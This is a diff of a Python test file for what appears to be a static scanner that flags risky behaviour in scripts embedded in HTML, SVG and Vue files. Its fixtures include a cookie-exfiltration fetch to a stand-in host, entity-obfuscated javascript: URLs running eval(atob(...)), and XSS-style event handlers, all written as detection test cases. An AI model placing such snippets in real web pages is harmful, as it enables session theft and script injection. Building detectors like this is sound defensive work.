@@ -1,141 +1,95 @@
 from __future__ import annotations
 
-import pytest
-from hypothesis import given, settings
-from hypothesis import strategies as st
+import time
 
+import pytest
+
+from fimci.model import Capability, Unread
+from fimci.readers import candidates
 from fimci.readers.code import html
 
 
-def found(text: str) -> list[tuple[int, str]]:
-    return [(line, data.decode().strip()) for line, data in html.scripts(text.encode())]
+def told(text: str, path: str = "docs/a.html") -> list[tuple[str, str, int]]:
+    found = html.read(path, text.encode())
+    return [(one.name, one.subject, one.at.line) for one in found if isinstance(one, Capability)]
 
 
 @pytest.mark.parametrize(
     ("text", "expected"),
     [
-        ("<p>\n<script>\nf(1 < 2)</script>", [(2, "f(1 < 2)")]),
-        ('<SCRIPT type="text/javascript">f()</SCRIPT >', [(1, "f()")]),
-        ('<script type="module" async>f()</script>', [(1, "f()")]),
-        ('<script type="application/json">{"a": 1}</script>', []),
-        ('<script type="text/x-template"><b onclick="f()"></script>', []),
-        ('<script type="application/ld+json; charset=utf-8">{}</script>', []),
-        ("<body\n  onload='f(&quot;x&quot;)'>", [(1, 'f("x")')]),
-        ("<img src=x onerror=f()>", [(1, "f()")]),
-        ('<a href="java&#10;script:f()">', [(1, "f()")]),
-        ('<a href="&#106;avascript:f()">', [(1, "f()")]),
-        ('<svg><a xlink:href="javascript:f()"/></svg>', [(1, "f()")]),
-        ("<svg>\n<script><![CDATA[\nf()\n]]></script></svg>", [(2, "f()")]),
-        ('<iframe srcdoc="&lt;script&gt;f()&lt;/script&gt;">', [(1, "f()")]),
-        ("<!-- <script>f()</script> -->", []),
-        ("<script>f()", [(1, "f()")]),
-        ("<script></script><script> </script>", []),
-        ("<p>one</p>", []),
-        ("<style>a { b: '<script>f()</script>' }</style>", []),
-        ("<p title='<script>f()</script>'>", []),
-        ("<p title=a/onclick=f()>", []),
-        ("<script/x=1/>f()</script>", [(1, "f()")]),
-        ("<svg><script href='a.js'/><b onclick='f()'/></svg>", [(1, "f()")]),
-        ("<p on='f()' once=1 data-on=f()>", [(1, "1")]),
+        ("<p>\n<script>\n\nfetch('https://in.example/a')</script>", ("network", "in.example", 4)),
+        ("<p>\n<body\n  onload=\"eval(atob('MQ=='))\">", ("dynamic-code", "decoded", 2)),
+        ("<a href=\"java&Tab;script&colon;eval(atob('MQ=='))\">", ("dynamic-code", "decoded", 1)),
+        ("<a href=\"java&#x73;cript:eval(atob('MQ=='))\">", ("dynamic-code", "decoded", 1)),
+        ('\n<script src="//cdn.example/a.js"></script>', ("network", "cdn.example", 2)),
         (
-            "<template>\n<p :a='b' @click='f'>{{ x }}</p></template>\n<script setup lang='ts'>\nf()</script>",
-            [(3, "f()")],
+            "<p>\n<script>\nfetch('https://in.example/?' + document.cookie)\n</script>",
+            ("exfiltration", "secret -> in.example", 3),
         ),
+        ("\ufeff<script>fetch('https://in.example/ä')</script>", ("network", "in.example", 1)),
     ],
 )
-def test_what_a_browser_would_run(text: str, expected: list[tuple[int, str]]) -> None:
-    assert found(text) == expected
+def test_what_scripts_can_do(text: str, expected: tuple[str, str, int]) -> None:
+    assert expected in told(text)
 
 
-def test_languages_and_addresses() -> None:
-    page = html.page(
-        b'<script lang="ts">a</script><script src="https://cdn.example/a.js" integrity="sha384-x"></script>'
-        b'<script src="b.js"></script><script lang=tsx>c</script>'
-    )
-    assert [script.language for script in page.scripts] == ["ts", "tsx"]
-    assert [(one.address, one.pinned) for one in page.linked] == [
-        ("https://cdn.example/a.js", True),
-        ("b.js", False),
-    ]
-    assert not page.capped
+def test_scripts_in_utf16_are_read() -> None:
+    data = "<script>fetch('https://in.example/a')</script>".encode("utf-16")
+    assert [one.subject for one in html.read("a.html", data) if isinstance(one, Capability)] == ["in.example"]
 
 
-def test_caps_are_told() -> None:
-    page = html.page(b"<script>f()</script>" * 3000)
-    assert len(page.scripts) == 2000
-    assert "more than" in page.capped
-    assert [one.part for one in html.unread("a.html", page)] == ["scripts"]
-    assert html.page(b"a" * (html.SIZE_LIMIT + 1)).capped == "larger than 4 MiB"
+def test_a_page_runs_when_opened_and_a_component_when_imported() -> None:
+    text = b"<script>fetch('https://in.example/a')</script>"
+    phases = {path: next(html.read(path, text)) for path in ("a.html", "a.svg", "a.vue", "a.svelte")}
+    assert {path: one.phase for path, one in phases.items() if isinstance(one, Capability)} == {
+        "a.html": "call",
+        "a.svg": "call",
+        "a.vue": "import",
+        "a.svelte": "import",
+    }
 
 
-PARTS = st.sampled_from(
-    (
-        *(
-            "<",
-            ">",
-            "script",
-            "</script>",
-            "<script>",
-            "<!--",
-            "-->",
-            "<![CDATA[",
-            "]]>",
-            "<!",
-            "<?",
-            "&#",
-            "&",
-        ),
-        *(
-            '"',
-            "'",
-            "=",
-            " onload=",
-            "javascript:",
-            " src",
-            "\0",
-            "\n",
-            "<svg ",
-            "/>",
-            "a",
-            "<!DOCTYPE",
-            "\ud7ff",
-        ),
-    )
+def test_a_script_that_does_not_end_hides_no_other() -> None:
+    text = "<script>/* `</script>\n<script>fetch('https://in.example/a')</script>"
+    assert ("network", "in.example", 2) in told(text)
+
+
+def test_types_of_typescript_are_read() -> None:
+    text = "<script setup lang='ts'>\nconst a: string = 'https://in.example/a'\nfetch(a)</script>"
+    assert ("network", "in.example", 3) in told(text, "a.vue")
+
+
+def test_documentation_is_silent() -> None:
+    text = "<p onclick='show()'>fetch(x)</p><script>window.x = 1; init(document)</script>" * 50
+    assert told(text) == []
+
+
+def test_one_record_for_each_name_and_subject() -> None:
+    text = "<script src=https://in.example/a.js></script><script>fetch('https://in.example/a')</script>"
+    assert told(text) == [("network", "in.example", 1)]
+
+
+def test_what_is_too_much_is_told() -> None:
+    found = list(html.read("a.html", b"<script>f()</script>" * 2001))
+    assert [one.part for one in found if isinstance(one, Unread)] == ["scripts"]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<a " * 300_000,
+        "on" * 1_000_000,
+        "&#x73;" * 200_000,
+        "<b on" * 200_000,
+        "<b>onx=" * 100_000,
+        "<!-" * 300_000,
+    ],
 )
+def test_hostile_pages_take_no_time(text: str) -> None:
+    begin = time.process_time()
+    told(text)
+    assert time.process_time() - begin < 4
 
 
-@given(st.lists(PARTS, max_size=30).map("".join))
-@settings(max_examples=150, deadline=None)
-def test_any_text_is_read(text: str) -> None:
-    page = html.page(text.encode())
-    for script in page.scripts:
-        assert 1 <= script.line <= text.count("\n") + 1
-        assert script.data.strip()
-
-
-@given(st.binary(max_size=200))
-@settings(max_examples=100, deadline=None)
-def test_any_bytes_are_read(data: bytes) -> None:
-    html.page(b"<script>" + data)
-
-
-HOSTILE = (
-    "<",
-    "<a ",
-    "<a b='",
-    "<!--",
-    "<script>",
-    "&",
-    "<a =",
-    "</",
-    "<style>",
-    "<title>",
-    "<p onx=' ",
-    "\n<a>",
-)
-
-
-@pytest.mark.parametrize("part", HOSTILE)
-def test_hostile_text_takes_no_longer_than_its_size(part: str) -> None:
-    page = html.page(b"<script>f()</script>" + part.encode() * (1_000_000 // len(part)))
-    assert page.scripts[0].data == b"f()"
+def test_pages_have_a_reader() -> None:
+    assert "html" in [reader.name for reader in candidates("a/b.svg")]
